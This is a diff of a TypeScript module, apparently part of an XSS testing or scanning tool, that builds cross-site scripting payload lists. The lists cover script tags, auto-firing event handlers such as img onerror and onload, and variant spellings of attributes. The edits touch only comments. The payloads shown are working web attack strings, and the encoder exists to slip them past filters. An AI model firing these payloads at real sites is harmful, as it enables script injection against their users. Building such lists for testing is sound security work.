@@ -1,7 +1,7 @@
-/** Messages that run a script: elements, handlers, and every way to write an attribute. */
+/** Messages that run a script: elements, handlers, and every spelling of an attribute. */
 import { type Family, egressHost, marker, out } from './family.ts'
 
-/** All code points of a text as decimal or hexadecimal references, with or without their semicolons. */
+/** Encodes a text as decimal or hexadecimal references, with or without semicolons. */
 const references = (text: string, write: (codePoint: number) => string) =>
   [...text].map((character) => write(character.codePointAt(0)!)).join('')
 
@@ -30,7 +30,7 @@ export const scripts: Family = (call) => [
   `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
 ]
 
-/** Elements that fire an event without anybody doing anything, or when they are touched. */
+/** Elements that fire an event on their own or on interaction. */
 export const handlers: Family = (call) => [
   `<img src=x onerror=${call}>`,
   `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${call}>`,
@@ -88,7 +88,7 @@ export const handlers: Family = (call) => [
   `<custom-element onclick=${call}>x</custom-element>`,
 ]
 
-/** One handler, its attribute written in every way that HTML reads as one. */
+/** One handler in every spelling of its attribute that HTML accepts. */
 export const spellings: Family = (call) => [
   `<img src="x" onerror="${call}">`,
   `<img src='x' onerror='${call}'>`,
